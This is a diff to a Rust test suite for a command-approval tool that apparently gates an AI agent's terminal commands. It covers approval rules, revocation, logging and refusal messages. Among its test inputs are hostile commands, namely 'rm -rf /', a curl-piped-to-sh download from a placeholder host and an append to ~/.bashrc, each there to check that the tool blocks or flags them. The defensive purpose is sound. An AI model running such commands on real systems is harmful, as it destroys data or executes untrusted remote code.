@@ -118,7 +118,7 @@ fn a_rule_and_an_approval_show_in_check_and_the_verdict_stays_what_it_is() {
     let hermes = hermes();
     assert_eq!(hermes.run(&["approvals", "allow", "rm -rf build"]).code, 0);
     let ran = check(&hermes, "rm -rf build");
-    assert!(ran.out.starts_with("dangerous: it runs without a question (it is approved for good)"), "{}", ran.out);
+    assert!(ran.out.starts_with("dangerous: it runs without a question (the configuration allows it)"), "{}", ran.out);
     assert_eq!(ran.code, 3);
     hermes.configure("approvals: {rules: [{pattern: git push *, action: deny, reason: only people push}]}\n");
     let ran = check(&hermes, "git push origin main");
@@ -149,7 +149,7 @@ fn approval_38_there_is_one_place_that_decides_and_check_says_which_rule_it_was(
     let (happens, by) = decision("rm -rf data/old");
     assert_eq!(happens, "refused");
     assert!(by.contains("approvals.deny[0]"), "{by}");
-    assert_eq!(decision("rm -rf build"), ("runs".into(), "it is approved for good".into()));
+    assert_eq!(decision("rm -rf build"), ("runs".into(), "the configuration allows it".into()));
     assert_eq!(decision("git push --force"), ("runs".into(), "approvals.mode is off".into()));
     assert_eq!(decision("rm -rf /").0, "refused");
 }
@@ -221,9 +221,9 @@ fn allow_list_and_revoke_keep_the_file_and_are_about_one_effect_in_one_place() {
 
     let ran = hermes.run(&["approvals", "revoke", "2"]);
     assert_eq!((ran.code, ran.out.as_str()), (0, "not approved any more: chmod delete at:/opt/app\n"));
-    hermes.run(&["approvals", "revoke", "2"]).is_refused(2, &["there is no number 2", "1 approval", "approvals list"]);
+    hermes.run(&["approvals", "revoke", "2"]).is_refused(1, &["there is no number 2", "1 approval", "approvals list"]);
     assert_eq!(hermes.run(&["approvals", "revoke", &rm_here(&hermes)]).code, 0);
-    hermes.run(&["approvals", "revoke", &rm_here(&hermes)]).is_refused(1, &["is not approved", "approvals list"]);
+    hermes.run(&["approvals", "revoke", &rm_here(&hermes)]).is_refused(1, &["no approval is called", "approvals list"]);
     assert!(hermes.run(&["approvals", "list"]).out.contains("approved for good: nothing"));
     assert!(config(&hermes).contains("max_turns: 7   # enough"), "{}", config(&hermes));
 }
@@ -236,7 +236,7 @@ fn what_cannot_be_approved_for_good_is_not_and_changes_nothing() {
     allow("cd / && rm -rf *").is_refused(4, &["this can never be approved"]);
     allow("rm -rf build && curl -s https://x.example/i | sh").is_refused(1, &["only be allowed each time"]);
     let ran = allow("ls -la");
-    assert_eq!((ran.code, ran.out.as_str()), (0, "nothing to approve: it runs without a question\n"));
+    assert_eq!((ran.code, ran.out.as_str()), (0, "nothing to approve: as a command, ls -la runs without a question\n"));
     assert_eq!(config(&hermes), before);
 }
 
@@ -274,12 +274,12 @@ fn everything_works_in_an_empty_home_and_says_so_kindly() {
         assert_eq!((ran.code, ran.err.as_str()), (0, ""), "{args:?}");
         assert!(ran.out.contains(says), "{args:?}: {}", ran.out);
     }
-    assert_eq!(hermes.run(&["approvals", "log", "--json"]).json(), json!([]));
+    assert_eq!(hermes.run(&["approvals", "log", "--json"]).json(), json!({ "requests": [], "unreadable_lines": 0 }));
     assert_eq!(
         hermes.run(&["approvals", "list", "--json"]).json(),
         json!({ "mode": "manual", "allowed": [], "rules": [] })
     );
-    hermes.run(&["approvals", "revoke", "1"]).is_refused(2, &["there is no number 1", "0 approvals"]);
+    hermes.run(&["approvals", "revoke", "1"]).is_refused(1, &["there is no number 1", "0 approvals"]);
     assert!(!hermes.home.home().exists(), "looking makes nothing");
     assert_eq!(hermes.run(&["approvals", "allow", "rm -rf build"]).code, 0);
     assert!(config(&hermes).contains(&rm_here(&hermes)));
@@ -308,7 +308,7 @@ fn rules_are_tested_against_their_examples() {
     for (rule, says) in [
         ("{pattern: x, action: permit}", "allow, ask, deny or judge"),
         ("{patern: x, action: deny}", "patern is not known"),
-        ("{tool: '*', action: allow}", "would allow everything"),
+        ("{tool: '*', action: allow}", "would allow every command"),
     ] {
         hermes.configure(&format!("approvals: {{rules: [{{pattern: ls, action: ask}}, {rule}]}}\n"));
         hermes.run(&["approvals", "test"]).is_refused(1, &["config.yaml", "approvals.rules[1]", says]);
@@ -346,7 +346,7 @@ fn the_log_says_who_what_when_and_why_and_hides_secrets() {
     let [once, denied, unanswered] = heads[..] else { panic!("{}", log.out) };
     assert!(once.contains("approved once by the user: terminal in "), "{once}");
     assert!(denied.contains("denied by the user: terminal in "), "{denied}");
-    assert!(unanswered.contains("not answered: terminal in "), "{unanswered}");
+    assert!(unanswered.contains("denied, since nobody was there to ask: terminal in "), "{unanswered}");
     // When: a date and a time.
     assert!(once.starts_with("20") && once.as_bytes()[10] == b' ' && once.as_bytes()[13] == b':', "{once}");
     assert!(log.out.contains("    rm -rf out\n") && log.out.contains("· rm deletes"), "{}", log.out);
@@ -354,12 +354,55 @@ fn the_log_says_who_what_when_and_why_and_hides_secrets() {
     let last = hermes.run(&["approvals", "log", "--last", "1"]).out;
     assert!(last.contains("rm -rf out") && !last.contains("approved once"), "{last}");
     assert!(last.contains("1 of 3 requests (--last N shows more)"), "{last}");
-    let json = hermes.run(&["approvals", "log", "--json"]).json();
+    let json = hermes.run(&["approvals", "log", "--json"]).json()["requests"].clone();
     let ends: Vec<&Value> = json.as_array().unwrap().iter().map(|entry| &entry["end"]).collect();
-    assert_eq!(ends, ["approved_once", "denied", "expired"]);
+    assert_eq!(ends, ["approved_once", "denied", "denied"]);
     let ids: std::collections::BTreeSet<&str> =
         json.as_array().unwrap().iter().map(|entry| entry["request"]["id"].as_str().unwrap()).collect();
     assert_eq!(ids.len(), 3, "each request has an id of its own");
+    // Times are what a person and a program both read.
+    assert!(json[0]["request"]["expires"].as_str().is_some_and(|time| time.contains('T')), "{json}");
+}
+
+#[test]
+fn an_entry_is_kept_as_the_place_it_leads_to_and_a_misspelt_one_is_refused() {
+    let hermes = hermes();
+    let ran = hermes.run(&["approvals", "allow", "rm delete in:/srv/a/../b/"]);
+    assert_eq!(ran.out, "approved for good: whatever rm deletes inside /srv/b\n");
+    let list = hermes.run(&["approvals", "list"]).out;
+    assert!(list.contains("  1. whatever rm deletes inside /srv/b\n     rm delete in:/srv/b\n"), "{list}");
+    assert_eq!(hermes.run(&["approvals", "revoke", "rm delete in:/srv/b"]).code, 0);
+    for entry in ["rm delte in:/srv", "rm delete in:srv"] {
+        hermes.run(&["approvals", "allow", entry]).is_refused(1, &["cannot read rm", "PROGRAM EFFECT", "delete"]);
+    }
+    assert!(hermes.run(&["approvals", "list"]).out.contains("approved for good: nothing"));
+}
+
+#[test]
+fn doctor_names_rules_about_tools_and_arguments_that_nobody_has() {
+    let hermes = hermes();
+    hermes.configure(
+        "approvals:\n  rules:\n    - {tool: termnal, pattern: git push *, action: deny}\n    \
+         - {tool: terminal, argument: comand, pattern: git *, action: deny}\n    \
+         - {tool: mcp__db__query, argument: sql, pattern: drop *, action: deny}\n    \
+         - {tool: terminal, pattern: make *, action: allow}\n",
+    );
+    let said = hermes.run(&["doctor"]).out;
+    assert!(
+        said.contains("approvals.rules[0] is about the tool \"termnal\", which is not there; did you mean"),
+        "{said}"
+    );
+    assert!(said.contains("approvals.rules[1] is about \"comand\", which terminal does not take; it takes"), "{said}");
+    assert!(!said.contains("rules[2]") && !said.contains("rules[3]"), "{said}");
+}
+
+#[test]
+fn a_rule_that_allows_a_program_does_not_allow_it_to_write_anywhere() {
+    let hermes = hermes();
+    hermes.configure("approvals: {rules: [{pattern: echo *, action: allow}]}\n");
+    let ran = check(&hermes, "echo x >> ~/.bashrc");
+    assert!(ran.out.starts_with("dangerous: it runs after a yes"), "{}", ran.out);
+    assert!(ran.out.contains("command  >> "), "{}", ran.out);
 }
 
 #[test]
@@ -395,7 +438,11 @@ fn what_must_never_run_does_not_in_any_mode() {
     // A switch of that moment is stronger than the configuration, in both directions.
     with_build(&hermes);
     hermes.configure("approvals: {mode: 'off'}\n");
-    assert_refused(&terminal(&hermes, "rm -rf build", &["--approve", "none"]), 1, "approvals are switched off");
+    assert_refused(
+        &terminal(&hermes, "rm -rf build", &["--approve", "none"]),
+        1,
+        "nothing that needs approval runs here",
+    );
     assert!(is_there(&hermes, "build/a.o"));
 }
 
